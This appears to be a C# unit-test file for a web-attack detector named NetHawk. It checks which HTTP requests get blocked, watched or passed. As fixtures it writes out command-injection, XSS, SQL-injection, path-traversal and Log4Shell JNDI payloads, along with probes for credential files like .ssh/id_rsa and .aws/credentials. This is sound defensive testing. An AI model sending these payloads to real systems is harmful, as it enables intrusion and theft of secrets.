using NetHawk.Core.Detectors.Exploit;
using NetHawk.Core.Detectors.WebAttack;
using NetHawk.Core.Peek;
using NetHawk.Core.Verdicts;
using static System.FormattableString;

namespace NetHawk.Tests.Detectors;

/// <summary>Programs and people whose work is code, reports of errors and folders, and those who attack as they do.</summary>
public class SpokenCodeTests
{
    private const string Client = "203.0.113.7", Server = "10.0.0.5";

    private static HttpRequest Ask(string method, string target, string body = "") => new(method, target, "shop.example", "Mozilla/5.0", true, false, body.Length, body);

    private static Events Run(int requests, Func<int, HttpRequest> request, int status = 200)
    {
        var run = new Events(new WebAttackDetector(Events.Context()));
        for (int i = 0; i < requests; i++) run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: [request(i), new HttpResponse(status, "nginx", 10) { FromResponder = true }]);
        return run;
    }

    [Fact]
    public void Cells_of_a_notebook_are_blocked_softly_at_most_and_the_same_in_targets_or_without_end_fully()
    {
        Assert.All(Run(30, i => Ask("POST", $"/api/run?n={i}", i % 3 == 0 ? $$"""{"code": "pip install part{{i}} && ls data"}""" : """{"code": "x = 1"}""")).Found, e => Assert.True(e is { Decisive: false, SoftOnly: not null }));
        Assert.Contains(Run(30, i => Ask("GET", i % 3 == 0 ? $"/ping?host={i}%26%26ls" : "/")).Found, e => e is { Decisive: true, SoftOnly: null });
        Assert.Contains(Run(30, i => Ask("POST", $"/api/run?n={i}", $$"""{"host": "{{i}}; cat /etc/hosts"}""")).Found, e => e is { Decisive: true, SoftOnly: null });
    }

    [Fact]
    public void Who_edits_pages_in_a_browser_is_watched_and_who_slips_something_into_a_short_call_is_not()
    {
        string text = string.Join(' ', Enumerable.Range(0, 40).Select(static n => Invariant($"w{n}=")));
        HttpRequest Edit(int i, string words) => Ask("POST", $"/pages/{i}", $$"""{"id": {{i}}, "html": "<a onclick="alert('sold')">{{words}}"}""") with { HasContext = true, HasLanguage = true };
        var edits = Run(10, i => Edit(i, text));
        Assert.NotEmpty(edits.Found);
        Assert.All(edits.Found, e => Assert.NotNull(e.WatchOnly));
        Assert.Contains(Run(10, i => Edit(i, "")).Found, e => e.WatchOnly is null);
        Assert.Contains(Run(10, i => Edit(i, text) with { HasLanguage = false }).Found, e => e.WatchOnly is null);
        Assert.Contains(Run(30, i => Edit(i, text)).Found, e => e.WatchOnly is null);
    }

    [Fact]
    public void A_writer_in_a_hurry_is_not_blocked_fully()
    {
        var run = Run(24, i => Ask("POST", $"/comments?n={i}", i % 2 == 0 ? $"text=%3Cscript%3Ealert({i})%3C/script%3E" : "text=hello") with { HasContext = true, HasLanguage = true });
        Assert.NotEmpty(run.Found);
        Assert.All(run.Found, e => Assert.True(e is { Decisive: false, SoftOnly: not null } or { WatchOnly: not null }));
    }

    [Fact]
    public void Who_keeps_his_folders_on_a_server_is_watched_and_who_looks_for_others_files_is_not()
    {
        string[] names = [".git/config", ".env", "backup.sql", ".ssh/id_rsa", ".htpasswd", ".aws/credentials", "etc/passwd"];
        string[] methods = ["PROPFIND", "PUT", "GET"];
        var kept = Run(60, i => Ask(methods[i % 3], "/dav/ann/" + names[i % names.Length]), 207);
        Assert.NotEmpty(kept.Found);
        Assert.All(kept.Found, e => Assert.NotNull(e.WatchOnly));
        Assert.Contains(Run(60, i => Ask("GET", "/" + names[i % names.Length])).Found, e => e.WatchOnly is null);
        Assert.Contains(Run(60, i => Ask(methods[i % 3], "/" + names[i % names.Length]), 404).Found, e => e.WatchOnly is null);
        Assert.Contains(Run(60, i => Ask(methods[i % 3], Invariant($"/dav/../../../../{i}/") + names[i % names.Length]), 207).Found, e => e.WatchOnly is null);
    }

    [Fact]
    public void Who_waits_for_a_few_things_is_not_accused_and_who_has_a_list_is()
    {
        Assert.Empty(Run(400, i => Ask("GET", $"/api/jobs/{(char)('a' + i / 10 % 26)}{i / 260}"), 404).Found);
        Assert.NotEmpty(Run(200, i => Ask("GET", $"/{(char)('a' + i % 26)}{i / 26}.php"), 404).Found);
    }

    [Theory]
    [InlineData("""{"csp-report": {"document-uri": "http://shop.example/?q=<svg/onload=alert(1)>"}}""", """{"name": "<svg/onload=alert(1)>"}""")]
    [InlineData("""{"request": {"url": "https://shop.example/item?id=1' UNION SELECT 1,2--"}}""", """{"url": "https://shop.example/1' UNION SELECT 1,2--"}""")]
    [InlineData("""{"spans": [{"http.url": "http://a.example/run?x=1;cat /etc/hosts"}]}""", """{"spans": [{"http.url": "http://a.example/run?x=1;cat /etc/hosts"}], "host": "1;cat /etc/hosts"}""")]
    [InlineData("""{"url": "http://a.example/?page=2"}""", """{"url": "http://a.example/?x=${jndi:ldap://192.0.2.4/a}"}""")]
    public void Reports_name_what_others_asked_for(string honest, string attack)
    {
        Assert.False(WebPatterns.InBody(honest, out bool quoted) != WebPattern.None && !quoted);
        Assert.True(WebPatterns.InBody(attack, out quoted) != WebPattern.None && !quoted);
    }

    /// <summary>However many, from however many browsers behind one address: what failed, and at which request.</summary>
    [Theory]
    [InlineData("csp-report", "document-uri", true)]
    [InlineData("stacktrace", "value", true)]
    [InlineData("db.statement", "db.statement", true)]
    [InlineData("order", "comment", false)]
    public void Reports_of_errors_are_watched_and_the_same_in_a_call_is_not(string name, string field, bool watched)
    {
        var run = Run(60, i => Ask("POST", "/api/4/store", $$"""{"{{name}}": {"{{field}}": "{{i}}' OR '1'='1", "n": "<svg/onload=alert({{i}})>"} }"""));
        Assert.NotEmpty(run.Found);
        Assert.Equal(watched, run.Found.TrueForAll(static e => e.WatchOnly is not null));
    }

    [Fact]
    public void A_path_in_a_report_is_no_exploit_and_asked_for_it_is()
    {
        var web = new WebExploits();
        Assert.Null(web.Find(Ask("POST", "/api/spans", """[{"http.target": "/cgi-bin/.%2e/.%2e/bin/sh"}]""")));
        Assert.NotNull(web.Find(Ask("POST", "/cgi-bin/.%2e/.%2e/bin/sh", "echo; id")));
    }
}
